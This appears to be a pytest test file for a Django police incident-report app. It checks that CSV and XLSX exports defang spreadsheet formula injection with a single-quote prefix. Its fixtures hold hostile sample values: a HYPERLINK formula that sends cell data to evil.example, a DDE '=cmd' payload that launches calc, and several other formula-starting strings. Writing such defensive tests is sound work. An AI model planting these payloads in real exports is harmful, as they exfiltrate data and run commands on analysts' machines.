"""Spreadsheet formula injection (OWASP "CSV injection"): a citizen's answer or a staff member's
text that starts with = + - @ tab or carriage return comes out of every CSV and XLSX export as
text, never as a live formula. As OWASP advises, such a cell is prefixed with a single quote, so
a legitimate "-12.50" or "+1 905 555 0100" is still there to read, after the quote."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from forms_app.models import IncidentType
from forms_app.resources import neutralise_formula, restore_formula
from rms_export.resources import ReportResource, analyst_reports
from tests.forms_app.test_canonical import report_for

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
# column -> what the citizen typed; each must come out as "'" + what they typed.
HOSTILE = {
    "street": HYPERLINK,
    "reporter_first_name": "@SUM(A1:A9)",
    "reporter_last_name": "-12.50",  # a legitimate negative number: still readable after the quote
    "reporter_phone": "+1 905 555 0100",  # a legitimate phone: still readable after the quote
    "municipality": "\t=1+1",
    "case_number": "\r=1+1",
}
ANSWER_FIELDS = {
    "street": "street_address_or_nearest_intersection",
    "reporter_first_name": "first_name",
    "reporter_last_name": "last_name",
    "reporter_phone": "phone_number",
}


@pytest.fixture
def hostile_report():
    report = report_for("report-theft")
    for column, name in ANSWER_FIELDS.items():
        report.form_data[name] = HOSTILE[column]
    report.municipality = HOSTILE["municipality"]
    report.case_number = HOSTILE["case_number"]
    report.save()
    return report


def expected(column):
    return "'" + HOSTILE[column]


def assert_neutralised(row):
    for column in HOSTILE:
        assert row[column] == expected(column), column
    assert row["reference"].startswith("DRPS-")  # ordinary values are left as they are


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(content):
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"], "a formula cell"
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, [cell.value for cell in row], strict=True)) for row in rows[1:]]


def test_the_resource_prefixes_every_cell_that_could_start_a_formula(hostile_report):
    dataset = ReportResource(personal=True).export(analyst_reports())
    assert_neutralised(dict(zip(dataset.headers, dataset[0], strict=True)))


def test_a_quote_alone_or_a_formula_character_further_in_is_left_alone(hostile_report):
    hostile_report.form_data[ANSWER_FIELDS["street"]] = "12 Main St = corner of 1st"
    hostile_report.form_data[ANSWER_FIELDS["reporter_first_name"]] = "'Ann"
    hostile_report.save()
    row = ReportResource(personal=True).export(analyst_reports()).dict[0]
    assert row["street"] == "12 Main St = corner of 1st"
    assert row["reporter_first_name"] == "'Ann"


@pytest.fixture
def supervisor(client):
    client.force_login(get_user_model().objects.get(username="supervisor"))
    return client


def test_the_admin_csv_export_is_neutralised(supervisor, hostile_report):
    response = supervisor.get("/admin/reports/analyst-export/", {"file_format": "csv", "personal": "on"})
    assert response.status_code == 200
    assert_neutralised(csv_rows(response.content.decode())[0])


def test_the_admin_xlsx_export_is_neutralised(supervisor, hostile_report):
    response = supervisor.get("/admin/reports/analyst-export/", {"file_format": "xlsx", "personal": "on"})
    assert response.status_code == 200
    assert_neutralised(xlsx_rows(response.content)[0])


def run(*args):
    call_command("rms_export", *args, "--personal", "--quiet", stdout=io.StringIO())


def test_the_management_command_csv_is_neutralised(tmp_path, hostile_report):
    run("--format", "csv", "--out", str(tmp_path))
    with (tmp_path / "reports.csv").open(newline="", encoding="utf-8") as handle:
        assert_neutralised(csv_rows(handle.read())[0])


def test_the_management_command_xlsx_is_neutralised(tmp_path, hostile_report):
    run("--format", "xlsx", "--out", str(tmp_path))
    assert_neutralised(xlsx_rows((tmp_path / "reports.xlsx").read_bytes())[0])


@pytest.fixture
def admin(client):
    client.force_login(get_user_model().objects.get(username="admin"))
    return client


@pytest.fixture
def hostile_type():
    return IncidentType.objects.create(
        code="HOSTILE",
        name="+Hostile",
        description='=cmd|" /C calc"!A0',
        ucr_code="2140",
        rms_occurrence_type="@Theft",
    )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_incident_type_export_is_neutralised_and_imports_back_unchanged(admin, hostile_type, file_format):
    response = admin.get(f"/admin/snippets/forms_app/incidenttype/export/{file_format}/")
    assert response.status_code == 200
    rows = csv_rows(response.content.decode()) if file_format == "csv" else xlsx_rows(response.content)
    row = next(r for r in rows if r["code"] == "HOSTILE")
    assert row["name"] == "'+Hostile"
    assert row["description"] == '\'=cmd|" /C calc"!A0'
    assert row["rms_occurrence_type"] == "'@Theft"

    # Our own export file imports back as it was: the quote we added is taken off again.
    IncidentType.objects.filter(code="HOSTILE").update(name="Changed", description="", rms_occurrence_type="x")
    upload = SimpleUploadedFile(f"types.{file_format}", response.content)
    response = admin.post("/admin/snippets/forms_app/incidenttype/import/", {"file": upload})
    assert response.status_code == 302, response.content.decode()[:3000]
    hostile_type.refresh_from_db()
    assert (hostile_type.name, hostile_type.description, hostile_type.rms_occurrence_type) == (
        "+Hostile",
        '=cmd|" /C calc"!A0',
        "@Theft",
    )


def test_a_negative_number_or_a_phone_stays_readable_after_the_quote():
    """OWASP's advice: prefix with a single quote. The text stays whole after it; numbers that
    are numbers (not text) cannot be formulas and are left as they are."""
    assert neutralise_formula("-12.50") == "'-12.50"
    assert neutralise_formula("+1 905 555 0100") == "'+1 905 555 0100"
    assert neutralise_formula(-12) == -12
    assert restore_formula("'-12.50") == "-12.50"
    assert restore_formula("'quoted") == "'quoted"
